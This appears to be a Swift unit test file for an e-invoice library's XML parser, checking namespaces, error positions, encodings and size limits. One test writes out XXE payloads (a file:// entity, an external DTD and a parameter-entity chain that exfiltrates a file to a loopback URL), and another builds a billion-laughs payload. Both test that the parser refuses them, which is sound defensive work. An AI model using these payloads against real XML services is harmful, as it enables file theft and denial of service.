import Foundation
import Testing

@testable import InvoiXML

private let ciiRSM = "urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"
private let ciiRAM = "urn:un:unece:uncefact:data:standard:ReusableAggregateBusinessInformationEntity:100"
private let ciiUDT = "urn:un:unece:uncefact:data:standard:UnqualifiedDataType:100"
private let ublInvoice = "urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
private let ublCAC = "urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"
private let ublCBC = "urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"
private let xmlNamespace = "http://www.w3.org/XML/1998/namespace"

private func parse(_ text: String, limits: XMLLimits = XMLLimits()) throws(XMLError) -> XMLElement {
    try XMLDocument.parse(Array(text.utf8), limits: limits).root
}

/// The error `bytes` are refused with; nil (a test failure) when they are accepted.
private func refusal(_ bytes: [UInt8], limits: XMLLimits = XMLLimits()) -> XMLError? {
    do {
        let document = try XMLDocument.parse(bytes, limits: limits)
        Issue.record("accepted, with the root <\(document.root.qualifiedName)>")
        return nil
    } catch {
        return error
    }
}

private func refusal(_ text: String, limits: XMLLimits = XMLLimits()) -> XMLError? {
    refusal(Array(text.utf8), limits: limits)
}

@Suite struct XMLDocumentTests {
    @Test func readsCIIWithPrefixedNamespaces() throws {
        let root = try parse(
            """
            <?xml version="1.0" encoding="UTF-8"?>
            <rsm:CrossIndustryInvoice xmlns:rsm="\(ciiRSM)"
                xmlns:ram="\(ciiRAM)" xmlns:udt="\(ciiUDT)">
              <rsm:ExchangedDocument>
                <ram:ID>R-1</ram:ID>
                <ram:IssueDateTime><udt:DateTimeString format="102">20261129</udt:DateTimeString></ram:IssueDateTime>
              </rsm:ExchangedDocument>
            </rsm:CrossIndustryInvoice>
            """)
        #expect(root.namespace == ciiRSM)
        #expect(root.localName == "CrossIndustryInvoice")
        #expect(root.qualifiedName == "rsm:CrossIndustryInvoice")
        #expect(root.attributes.isEmpty, "xmlns declarations are not attributes")
        #expect((root.line, root.column) == (2, 1))
        let document = try #require(root.child("ExchangedDocument", in: ciiRSM))
        #expect((document.line, document.column) == (4, 3))
        #expect(document.child("ID", in: ciiRAM)?.text == "R-1")
        #expect(document.child("ID", in: ciiRSM) == nil)
        let date = try #require(document.descendant(["IssueDateTime"], in: ciiRAM)?.child("DateTimeString", in: ciiUDT))
        #expect(date.text == "20261129")
        #expect(date.attributes == [XMLAttribute(namespace: "", localName: "format", value: "102")])
        #expect(date.qualifiedName == "udt:DateTimeString")
        #expect((date.line, date.column) == (6, 24))
        // The white space between children is the parent's text.
        #expect(root.text == "\n  \n")
        #expect(document.text == "\n    \n    \n  ")
    }

    @Test func readsUBLWithDefaultNamespace() throws {
        let root = try parse(
            """
            <Invoice xmlns="\(ublInvoice)" xmlns:cac="\(ublCAC)" xmlns:cbc="\(ublCBC)" xml:lang="de">
              <cbc:ID>U-1</cbc:ID>
              <cac:InvoiceLine>
                <cbc:InvoicedQuantity unitCode="C62" cbc:unit="x">2.5</cbc:InvoicedQuantity>
                <Note>default namespace inherited</Note>
              </cac:InvoiceLine>
            </Invoice>
            """)
        #expect(root.namespace == ublInvoice && root.localName == "Invoice" && root.qualifiedName == "Invoice")
        #expect(root.attributes == [XMLAttribute(namespace: xmlNamespace, localName: "lang", value: "de")])
        #expect(root.child("ID", in: ublCBC)?.trimmedText == "U-1")
        let line = try #require(root.child("InvoiceLine", in: ublCAC))
        let quantity = try #require(line.child("InvoicedQuantity", in: ublCBC))
        #expect(
            quantity.attributes == [
                XMLAttribute(namespace: "", localName: "unitCode", value: "C62"),
                XMLAttribute(namespace: ublCBC, localName: "unit", value: "x"),
            ])
        #expect(quantity.attribute("unitCode") == "C62")
        #expect(quantity.attribute("unit") == nil, "a prefixed attribute is not an unprefixed one")
        #expect(line.child("Note", in: ublInvoice)?.text == "default namespace inherited")
        // One string for every element in a namespace.
        let first = try #require(root.child("ID", in: ublCBC)).namespace
        #expect(
            first.utf8.withContiguousStorageIfAvailable { $0.baseAddress }
                == quantity.namespace.utf8.withContiguousStorageIfAvailable { $0.baseAddress })
    }

    @Test func scopesNamespaceDeclarations() throws {
        let root = try parse(
            """
            <a xmlns="urn:1" xmlns:p="urn:p"><p:b xmlns:p="urn:q"><p:c/></p:b><p:d/><e xmlns=""><f/></e><g/></a>
            """)
        let names = root.children.map { "{\($0.namespace)}\($0.localName)" }
        #expect(names == ["{urn:q}b", "{urn:p}d", "{}e", "{urn:1}g"])
        #expect(root.children[0].children[0].namespace == "urn:q")
        #expect(root.children[2].children[0].namespace == "")
        // A prefix declared on a sibling is out of scope.
        let error = refusal("<a><b xmlns:p=\"urn:p\"/><p:c/></a>")
        #expect(error?.message.contains("the prefix p of <p:c> is not bound") == true)
        #expect((error?.line, error?.column) == (1, 25))
    }

    @Test func keepsTextCDATAAndReferencesAndSkipsCommentsAndInstructions() throws {
        let root = try parse(
            "<?xml version='1.1' standalone='yes'?><!-- before --><?pi before?>\r\n<a>one <!-- c -->two<?pi x?>"
                + "<![CDATA[ <b>&amp; \r\n]]>&lt;&gt;&amp;&apos;&quot;&#65;&#x20AC;&#x1F600;&#13;\r\n<b>in b</b>after\rend</a>"
                + "<!-- after --><?pi after?>\n")
        #expect(root.text == "one two <b>&amp; \n<>&'\"A€😀\r\nafter\nend")
        #expect(root.children.map(\.text) == ["in b"])
        #expect((root.line, root.column) == (2, 1))
        #expect(try parse("<a/>").text == "")
        #expect(try parse("<a><![CDATA[]]></a>").text == "")
    }

    @Test func normalisesAttributeValues() throws {
        let root = try parse("<a b=\"one\ttwo\nthree\r\nfour\rfive\" c='&#9;&#10;&#13;&lt;\"' d=\"'\"/>")
        #expect(root.attribute("b") == "one two three four five")
        #expect(root.attribute("c") == "\t\n\r<\"")
        #expect(root.attribute("d") == "'")
    }

    @Test func acceptsNamesBeyondASCIIAndCountsColumnsInScalars() throws {
        let root = try parse("<Rechnung_ä·1 attribut-é=\"x\">é€😀<日本/></Rechnung_ä·1>")
        #expect(root.localName == "Rechnung_ä·1")
        #expect(root.attribute("attribut-é") == "x")
        // "<Rechnung_ä·1 attribut-é="x">" is 29 scalars, then three: <日本/> at column 33.
        #expect((root.children[0].line, root.children[0].column) == (1, 33))
        #expect(root.children[0].localName == "日本")
        // A byte-order mark is not a column.
        let marked = try XMLDocument.parse([0xEF, 0xBB, 0xBF] + Array("<a><b/></a>".utf8)).root
        #expect((marked.column, marked.children[0].column) == (1, 4))
    }

    /// Every kind of refusal, with the line and column of what is wrong.
    @Test(
        arguments: [
            // Structure.
            ("<a>\n  <b></a>", "the end tag </a> does not match the start tag <b> (line 2, column 3)", 2, 6),
            ("<a>\n<b>", "the document ends inside <b> (line 2, column 1)", 2, 4),
            ("", "the document has no root element", 1, 1),
            ("<!-- only -->\n", "the document has no root element", 2, 1),
            ("<a/>\n<b/>", "a second root element: a document has one root element, which has ended", 2, 1),
            ("x<a/>", "text before the root element: a document begins with its root element's start tag", 1, 1),
            ("<a/>\n  x", "text after the root element's end tag", 2, 3),
            ("<a/></a>", "the end tag </a> has no start tag", 1, 5),
            ("<a></a b>", "'>' expected to end the end tag </a>", 1, 8),
            ("<a", "the document ends inside the start tag <a>", 1, 3),
            ("<1a/>", "'1' where an element's name after '<' was expected", 1, 2),
            ("< a/>", "U+0020 where an element's name after '<' was expected", 1, 2),
            (
                "<a:b:c/>",
                "a:b:c is not a name XML namespaces allow (one ':' at most, between a prefix and a local name)", 1, 2
            ),
            (
                "<a b:='1'/>",
                "b: is not a name XML namespaces allow (one ':' at most, between a prefix and a local name)", 1, 4
            ),
            // Attributes.
            ("<a b='1' b='2'/>", "the attribute b appears twice", 1, 10),
            (
                "<a xmlns:p='urn:x' xmlns:q='urn:x' p:b='1' q:b='2'/>",
                "the attribute {urn:x}b appears twice (under two prefixes bound to its namespace)", 1, 44
            ),
            ("<a b=1/>", "the value of the attribute b must be in quotes", 1, 6),
            ("<a b '1'/>", "'=' expected after the attribute name b", 1, 6),
            ("<a b='<'/>", "'<' is not allowed in an attribute's value (the attribute b; write &lt;)", 1, 7),
            ("<a b='1'c='2'/>", "white space expected before the attribute", 1, 9),
            ("<a b='1' / >", "'>' expected after '/'", 1, 11),
            ("<a b='1' =/>", "'=' where an attribute's name, '>' or '/>' was expected in the start tag <a>", 1, 10),
            ("<a b='1", "the document ends inside the value of the attribute b", 1, 8),
            // Namespaces.
            ("<p:a/>", "the prefix p of <p:a> is not bound to a namespace (no xmlns:p declaration in scope)", 1, 2),
            (
                "<a\n p:b='1'/>",
                "the prefix p of the attribute p:b is not bound to a namespace (no xmlns:p declaration in scope)", 2, 2
            ),
            ("<a xmlns:p=''/>", "the prefix p cannot be bound to an empty namespace name", 1, 4),
            (
                "<a xmlns:xml='urn:x'/>", "the prefix xml cannot be bound to another namespace than \(xmlNamespace)", 1,
                4
            ),
            ("<a xmlns:x='\(xmlNamespace)'/>", "only the prefix xml can be bound to \(xmlNamespace)", 1, 4),
            ("<a xmlns:xmlns='urn:x'/>", "the prefix xmlns cannot be declared", 1, 4),
            ("<a xmlns='\(xmlNamespace)'/>", "the default namespace cannot be \(xmlNamespace)", 1, 4),
            ("<xmlns:a/>", "an element's name cannot have the prefix xmlns (<xmlns:a>)", 1, 2),
            // References.
            (
                "<a>\n&foo;</a>",
                "undefined entity &foo;: only &lt; &gt; &amp; &apos; &quot; and character references exist without a DTD",
                2, 1
            ),
            ("<a>AT&T</a>", "the reference &T must end with ';'", 1, 6),
            ("<a>a & b</a>", "'&' begins a reference such as &amp; (write &amp; for the character itself)", 1, 6),
            ("<a b='&#0;'/>", "the character reference &#0; refers to U+0000, which XML does not allow", 1, 7),
            ("<a>&#xD800;</a>", "the character reference &#xD800; refers to U+D800, which XML does not allow", 1, 4),
            ("<a>&#1;</a>", "the character reference &#1; refers to U+0001, which XML does not allow", 1, 4),
            ("<a>&#xFFFE;</a>", "the character reference &#xFFFE; refers to U+FFFE, which XML does not allow", 1, 4),
            (
                "<a>&#99999999999999999999;</a>",
                "the character reference &#99999999999999999999; refers to no character, which XML does not allow", 1, 4
            ),
            ("<a>&#x;</a>", "a character reference must be &#digits; or &#xhex-digits; (\"&#x;\" is not)", 1, 4),
            ("<a>&#12a;</a>", "a character reference must be &#digits; or &#xhex-digits; (\"&#12\" is not)", 1, 4),
            // Comments, CDATA, processing instructions.
            ("<a><!-- a -- b --></a>", "'--' is not allowed inside a comment", 1, 11),
            ("<a/><!-- open", "the document ends inside a comment begun here", 1, 5),
            ("<a><![CDATA[ open</a>", "the document ends inside a CDATA section begun here", 1, 4),
            ("<![CDATA[x]]><a/>", "a CDATA section outside the root element", 1, 1),
            ("<a><?pi open</a>", "the document ends inside a processing instruction begun here", 1, 4),
            ("<a><??></a>", "'?' where a processing instruction's target after '<?' was expected", 1, 6),
            ("<a><?pi-x?><?·?></a>", "U+00B7 where a processing instruction's target after '<?' was expected", 1, 14),
            ("<a><?pi\u{1}?></a>", "the control character U+0001 is not allowed in XML", 1, 8),
            ("<a><?pi-x!?></a>", "white space or '?>' expected after a processing instruction's target", 1, 10),
            (
                "<a/><?XmL version='1.0'?>",
                "an XML declaration (<?xml …?>) is allowed only at the very beginning of the document", 1, 5
            ),
            (
                " <?xml version='1.0'?><a/>",
                "an XML declaration (<?xml …?>) is allowed only at the very beginning of the document", 1, 2
            ),
            (
                "<a><!ELEMENT a ANY></a>",
                "'<!' begins neither a comment nor a CDATA section (markup declarations are not accepted)", 1, 4
            ),
            // The XML declaration.
            ("<?xml version='2.0'?><a/>", "XML version 2.0 is not supported (1.0 or 1.1)", 1, 16),
            ("<?xml encoding='UTF-8'?><a/>", "the XML declaration must begin with its version (version=\"1.0\")", 1, 7),
            (
                "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<a/>",
                "the document declares the encoding ISO-8859-1; invoi reads UTF-8 XML only", 1, 31
            ),
            (
                "<?xml version='1.0' standalone='maybe'?><a/>", "standalone must be \"yes\" or \"no\", not \"maybe\"",
                1, 33
            ),
            ("<?xml version='1.0' ?><a/>", "", 0, 0),
        ] as [(String, String, Int, Int)])
    func refusesWithLineAndColumn(_ text: String, message: String, line: Int, column: Int) throws {
        if message.isEmpty {
            // A declaration with white space before '?>' is fine.
            _ = try parse(text)
            return
        }
        let error = try #require(refusal(text))
        #expect(error.message == message)
        #expect((error.line, error.column) == (line, column), "\(error.message)")
    }

    @Test func refusesADocumentTypeDeclarationWherever() throws {
        let message = "a document type declaration (DOCTYPE) is not accepted: invoi never reads DTDs or entities"
        for (text, line, column) in [
            ("<!DOCTYPE a><a/>", 1, 1),
            ("<?xml version='1.0'?>\n<!-- c -->\n  <!DOCTYPE a [<!ENTITY e 'x'>]><a>&e;</a>", 3, 3),
            ("<a>\n<!DOCTYPE a></a>", 2, 1),
        ] {
            let error = try #require(refusal(text))
            #expect(error == XMLError(message: message, line: line, column: column))
        }
    }

    /// XXE: an external entity naming a file and a URL on a loopback port this test listens on.
    /// The document is refused at its DOCTYPE, and nothing connects to the port.
    @Test func refusesExternalEntitiesAndFetchesNothing() throws {
        let listener = try LoopbackListener()
        defer { listener.close() }
        let secret = FileManager.default.temporaryDirectory.appendingPathComponent("invoi-xxe-\(getpid()).txt")
        try Data("SECRET-CONTENT".utf8).write(to: secret)
        defer { try? FileManager.default.removeItem(at: secret) }
        let payloads = [
            """
            <?xml version="1.0" encoding="UTF-8"?>
            <!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file://\(secret.path)">]>
            <Invoice xmlns="\(ublInvoice)"><Note>&xxe;</Note></Invoice>
            """,
            """
            <?xml version="1.0"?>
            <!DOCTYPE Invoice SYSTEM "http://127.0.0.1:\(listener.port)/invoice.dtd">
            <Invoice xmlns="\(ublInvoice)"/>
            """,
            // Parameter entities: the external DTD is fetched while the DOCTYPE is read.
            """
            <?xml version="1.0"?>
            <!DOCTYPE Invoice [
              <!ENTITY % remote SYSTEM "http://127.0.0.1:\(listener.port)/evil.dtd">
              %remote;
              <!ENTITY % file SYSTEM "file://\(secret.path)">
              <!ENTITY % send "<!ENTITY exfiltrate SYSTEM 'http://127.0.0.1:\(listener.port)/?%file;'>">
              %send;
            ]>
            <Invoice xmlns="\(ublInvoice)">&exfiltrate;</Invoice>
            """,
        ]
        for payload in payloads {
            let error = try #require(refusal(payload))
            #expect(error.message.hasPrefix("a document type declaration (DOCTYPE) is not accepted"))
            #expect((error.line, error.column) == (2, 1))
        }
        #expect(listener.connectionsWaiting() == 0, "the parser connected to the loopback port")
        // Without a DOCTYPE, the reference itself is refused.
        #expect(refusal("<a>&xxe;</a>")?.message.hasPrefix("undefined entity &xxe;") == true)
    }

    /// Billion laughs: ten levels of ten references, a thousand million "lol"s if expanded.
    /// Refused at the DOCTYPE, the first byte of line 2: nothing is expanded.
    @Test func refusesBillionLaughs() throws {
        var payload = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n"
        for level in 1...9 {
            let previous = level == 1 ? "lol" : "lol\(level - 1)"
            payload += " <!ENTITY lol\(level) \"\(String(repeating: "&\(previous);", count: 10))\">\n"
        }
        payload += "]>\n<lolz>&lol9;</lolz>\n"
        let error = try #require(refusal(payload))
        #expect(error.message.hasPrefix("a document type declaration (DOCTYPE) is not accepted"))
        #expect((error.line, error.column) == (2, 1))
        // The same quadratic blow-up without a DTD cannot exist: an entity is one of five.
        #expect(refusal("<lolz>&lol9;</lolz>")?.message.hasPrefix("undefined entity &lol9;") == true)
    }

    @Test func refusesOtherEncodings() throws {
        let utf16 = "<a/>".utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
        let cases: [([UInt8], String)] = [
            ([0xFF, 0xFE] + utf16, "the document is UTF-16 (its byte-order mark FF FE); invoi reads UTF-8 XML only"),
            (
                [0xFE, 0xFF] + "<a/>".utf16.flatMap { [UInt8($0 >> 8), UInt8($0 & 0xFF)] },
                "the document is UTF-16 (its byte-order mark FE FF); invoi reads UTF-8 XML only"
            ),
            (utf16, "the document is UTF-16 (a zero byte beside each character); invoi reads UTF-8 XML only"),
            (
                [0, 0, 0xFE, 0xFF, 0, 0, 0, 0x3C],
                "the document is UTF-32 (its byte-order mark); invoi reads UTF-8 XML only"
            ),
        ]
        for (bytes, message) in cases {
            #expect(refusal(bytes) == XMLError(message: message, line: 1, column: 1))
        }
    }

    @Test(
        arguments: [
            (
                Array("<a>\n é".utf8) + [0xFF] + Array("</a>".utf8),
                "the byte 0xFF is not UTF-8 (invoi reads UTF-8 XML only)", 2, 3
            ),
            (
                Array("<a>".utf8) + [0x80] + Array("</a>".utf8),
                "the byte 0x80 is not UTF-8 (invoi reads UTF-8 XML only)", 1, 4
            ),
            (
                Array("<a>x".utf8) + [0xE2, 0x82] + Array("</a>".utf8),
                "the bytes from 0xE2 on are not a UTF-8 sequence (invoi reads UTF-8 XML only)", 1, 5
            ),
            (
                Array("<a>".utf8) + [0xC0, 0xBC] + Array("</a>".utf8),
                "the byte 0xC0 is not UTF-8 (invoi reads UTF-8 XML only)", 1, 4
            ),
            (
                Array("<a>".utf8) + [0xED, 0xA0, 0x80] + Array("</a>".utf8),
                "the bytes from 0xED on are not a UTF-8 sequence (invoi reads UTF-8 XML only)", 1, 4
            ),
            (
                Array("<a>".utf8) + [0xF0, 0x9F, 0x98],
                "the bytes from 0xF0 on are not a UTF-8 sequence (invoi reads UTF-8 XML only)", 1, 4
            ),
            (Array("<a>\r\n\r\n\u{1}</a>".utf8), "the control character U+0001 is not allowed in XML", 3, 1),
            (Array("<a>\0</a>".utf8), "the control character U+0000 is not allowed in XML", 1, 4),
            (Array("<a>\u{FFFF}</a>".utf8), "U+FFFF is not a character XML allows", 1, 4),
            // Latin-1 bytes in a document that says it is UTF-8.
            (
                Array("<?xml version='1.0'?>\n<a>Gr".utf8) + [0xFC, 0xDF] + Array("e</a>".utf8),
                "the byte 0xFC is not UTF-8 (invoi reads UTF-8 XML only)", 2, 6
            ),
        ] as [([UInt8], String, Int, Int)])
    func refusesMalformedUTF8(_ bytes: [UInt8], message: String, line: Int, column: Int) throws {
        let error = try #require(refusal(bytes))
        #expect(error == XMLError(message: message, line: line, column: column))
    }

    @Test func refusesPastEachLimit() throws {
        let bytes = refusal("<a/>", limits: XMLLimits(maximumBytes: 3))
        #expect(
            bytes
                == XMLError(
                    message: "the document is 4 bytes long, over the limit of 3 (XMLLimits.maximumBytes)", line: 1,
                    column: 1))
        #expect((try? parse("<a/>", limits: XMLLimits(maximumBytes: 4))) != nil)

        let depth = refusal("<a>\n<b><c><d/></c></b></a>", limits: XMLLimits(maximumDepth: 3))
        #expect(
            depth == XMLError(message: "elements nested more than 3 deep (XMLLimits.maximumDepth)", line: 2, column: 7))
        #expect((try? parse("<a><b><c/></b></a>", limits: XMLLimits(maximumDepth: 3))) != nil)

        let elements = refusal("<a><b/><c/>\n<d/></a>", limits: XMLLimits(maximumElements: 3))
        #expect(elements == XMLError(message: "more than 3 elements (XMLLimits.maximumElements)", line: 2, column: 1))
        #expect((try? parse("<a><b/><c/></a>", limits: XMLLimits(maximumElements: 3))) != nil)

        let attributes = refusal(
            "<a xmlns='urn:a' b='1' c='2'/>", limits: XMLLimits(maximumAttributesPerElement: 2))
        #expect(
            attributes
                == XMLError(
                    message: "more than 2 attributes in <a> (XMLLimits.maximumAttributesPerElement)", line: 1,
                    column: 24))
        #expect((try? parse("<a b='1' c='2'/>", limits: XMLLimits(maximumAttributesPerElement: 2))) != nil)

        let name = refusal("<a><bcdef/></a>", limits: XMLLimits(maximumNameLength: 4))
        #expect(
            name == XMLError(message: "a name longer than 4 bytes (XMLLimits.maximumNameLength)", line: 1, column: 5))
        #expect((try? parse("<a><bcde/></a>", limits: XMLLimits(maximumNameLength: 4))) != nil)

        let value = refusal("<a b='&amp;&amp;' c='12345'/>", limits: XMLLimits(maximumAttributeValueLength: 4))
        #expect(
            value
                == XMLError(
                    message:
                        "the value of the attribute c is longer than 4 bytes (XMLLimits.maximumAttributeValueLength)",
                    line: 1, column: 22))
    }

    /// 100,000 nested elements: refused at the 65th, without recursion (no stack overflow).
    @Test func refusesDeepNestingWithoutRecursion() throws {
        let deep = String(repeating: "<a>", count: 100_000) + String(repeating: "</a>", count: 100_000)
        let error = try #require(refusal(deep))
        #expect(
            error
                == XMLError(message: "elements nested more than 64 deep (XMLLimits.maximumDepth)", line: 1, column: 193)
        )
        // Within a raised limit the parser keeps its own stack: 5,000 levels parse.
        let nested = String(repeating: "<a>", count: 5_000) + String(repeating: "</a>", count: 5_000)
        var element = try parse(nested, limits: XMLLimits(maximumDepth: 5_000))
        var depth = 1
        while let child = element.children.first {
            element = child
            depth += 1
        }
        #expect(depth == 5_000)
    }

    /// Every XML file of the e-invoice corpus parses, and its root is what the manifest says
    /// the file is (CII, ZUGFeRD 1.0, UBL Invoice or CreditNote).
    @Test func parsesEveryCorpusFile() throws {
        // `../shared/einvoice-corpus` beside the package, or where INVOI_EINVOICE_CORPUS says.
        let corpus =
            ProcessInfo.processInfo.environment["INVOI_EINVOICE_CORPUS"].flatMap { $0.isEmpty ? nil : $0 }
            .map { URL(fileURLWithPath: $0) }
            ?? URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
            .deletingLastPathComponent().deletingLastPathComponent().appendingPathComponent("shared/einvoice-corpus")
        guard let manifest = try? String(contentsOf: corpus.appendingPathComponent("manifest.tsv"), encoding: .utf8)
        else {
            print("XMLDocumentTests: no corpus at \(corpus.path); its files are not parsed")
            return
        }
        let roots = [
            "cii": (ciiRSM, "CrossIndustryInvoice"),
            "other": ("urn:ferd:CrossIndustryDocument:invoice:1p0", "CrossIndustryDocument"),
            "ubl-invoice": (ublInvoice, "Invoice"),
            "ubl-creditnote": ("urn:oasis:names:specification:ubl:schema:xsd:CreditNote-2", "CreditNote"),
        ]
        var parsed = 0
        for row in manifest.split(whereSeparator: \.isNewline).dropFirst() {
            let fields = row.split(separator: "\t", omittingEmptySubsequences: false).map(String.init)
            guard fields[0].hasSuffix(".xml") else { continue }
            let file = corpus.appendingPathComponent("FILES").appendingPathComponent(fields[0])
            let bytes = try [UInt8](Data(contentsOf: file))
            let root: XMLElement
            do {
                root = try XMLDocument.parse(bytes).root
            } catch {
                Issue.record("\(fields[0]):\(error.line):\(error.column): \(error.message)")
                continue
            }
            let expected = try #require(roots[fields[5]], "\(fields[0]): syntax \(fields[5])")
            #expect(root.namespace == expected.0 && root.localName == expected.1, "\(fields[0])")
            #expect(fields[7] == "valid", "\(fields[0]) is \(fields[7]) but parses")
            parsed += 1
        }
        let files = try FileManager.default.contentsOfDirectory(atPath: corpus.appendingPathComponent("FILES").path)
        #expect(parsed == files.filter { $0.hasSuffix(".xml") }.count)
        #expect(parsed >= 240)
    }
}

/// A TCP socket listening on 127.0.0.1 (a port the system picks), to see whether anything
/// connects to it.
private struct LoopbackListener {
    let descriptor: Int32
    let port: UInt16

    init() throws {
        let descriptor = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        guard descriptor >= 0 else { throw CocoaError(.fileReadUnknown) }
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_addr.s_addr = inet_addr("127.0.0.1")
        address.sin_port = 0
        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
        let bound = withUnsafeMutablePointer(to: &address) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { pointer in
                bind(descriptor, pointer, length) == 0 && listen(descriptor, 8) == 0
                    && getsockname(descriptor, pointer, &length) == 0
            }
        }
        guard bound else {
            _ = Glibc.close(descriptor)
            throw CocoaError(.fileReadUnknown)
        }
        _ = fcntl(descriptor, F_SETFL, fcntl(descriptor, F_GETFL) | O_NONBLOCK)
        self.descriptor = descriptor
        port = UInt16(bigEndian: address.sin_port)
    }

    /// How many connections wait to be accepted (each accepted and closed).
    func connectionsWaiting() -> Int {
        var count = 0
        while true {
            let connection = accept(descriptor, nil, nil)
            if connection < 0 { return count }
            Glibc.close(connection)
            count += 1
        }
    }

    func close() { _ = Glibc.close(descriptor) }
}
